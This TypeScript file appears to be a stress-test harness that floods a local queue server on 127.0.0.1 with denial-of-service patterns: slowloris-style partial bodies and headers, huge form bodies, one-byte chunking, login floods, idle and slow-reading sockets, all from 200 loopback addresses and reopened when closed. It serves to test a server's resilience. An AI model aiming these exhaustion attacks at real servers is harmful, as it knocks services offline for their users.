/**
 * A program that attacks a server on 127.0.0.1 in every way at once, from many addresses of this machine, until its
 * standard input ends: `attacker.ts <port> <token of a consumer> [attack...]`. What is closed is opened again.
 *
 * @module
 */
import type { Socket } from 'node:net';
import { chunksOfOneByte, open, post } from './attacks.ts';

const [port = '0', token = '', ...only] = process.argv.slice(2);
const MIB = 1_048_576;
/** The part of all places that is used, but one of each at least. */
const share = Number(process.env['KARIN_ATTACK_SHARE'] ?? 1);
/** Between two connections of one place, ms: what is refused at once must not become a race of connecting alone. */
const PAUSE_MS = 500;

interface Attack {
  /** Connections at one time. */
  readonly places: number;
  readonly bytes: string;
  /** Reads nothing of what comes. */
  readonly deaf?: boolean;
}

const receive = JSON.stringify({ QueueUrl: 'large', MaxNumberOfMessages: 10, VisibilityTimeout: 0 });
const poll = JSON.stringify({ QueueUrl: 'jobs', WaitTimeSeconds: 20, VisibilityTimeout: 0 });
const json = (action: string, body: string): string =>
  post(`/k/${token}/`, body, { type: 'application/x-amz-json-1.0', headers: [`X-Amz-Target: AmazonSQS.${action}`] });
const form = (piece: string): string =>
  post('/', `q=/k/&QueueUrl=${piece.repeat(Math.floor((4.2 * MIB) / piece.length))}`);

const ATTACKS: Readonly<Record<string, Attack>> = {
  'forms-plus': { places: 2, bytes: form('+') },
  'forms-ampersand': { places: 2, bytes: form('&') },
  'log-ins': { places: 4, bytes: post('/ops/login', 'a&'.repeat(655_000)) },
  chunks: { places: 2, bytes: chunksOfOneByte('/', 800_000) },
  'chunks-caller': { places: 1, bytes: chunksOfOneByte(`/k/${token}/`, 800_000) },
  'large-bodies': { places: 120, bytes: post('/', `q=${'x'.repeat(1_300_000)}`, { withheld: 1 }) },
  'large-bodies-beside': { places: 120, bytes: post('/sync', 'x'.repeat(1_300_000), { withheld: 1 }) },
  'small-bodies': { places: 3_000, bytes: post('/', `q=${'x'.repeat(16_000)}`, { withheld: 1 }) },
  heads: { places: 3_000, bytes: `GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nA: ${'x'.repeat(16_000)}` },
  idle: { places: 4_096, bytes: '' },
  'slow-readers': { places: 16, bytes: json('ReceiveMessage', receive), deaf: true },
  'long-pollers': { places: 1_000, bytes: json('ReceiveMessage', poll) },
};

let opened = 0;
/** Each connection comes from one of so many addresses. */
const ADDRESSES = 200;

function place(attack: Attack): void {
  opened += 1;
  const socket: Socket = open(Number(port), `127.0.1.${1 + (opened % ADDRESSES)}`);
  if (attack.deaf === true) socket.pause();
  else socket.resume();
  if (attack.bytes !== '') socket.write(attack.bytes);
  socket.once('close', () => setTimeout(() => place(attack), PAUSE_MS));
}

for (const [name, attack] of Object.entries(ATTACKS)) {
  if (only.length > 0 && !only.includes(name)) continue;
  for (let n = 0; n < Math.max(1, attack.places * share); n += 1) place(attack);
}
process.stdin.on('end', () => process.exit(0)).resume();
console.log('attacking');
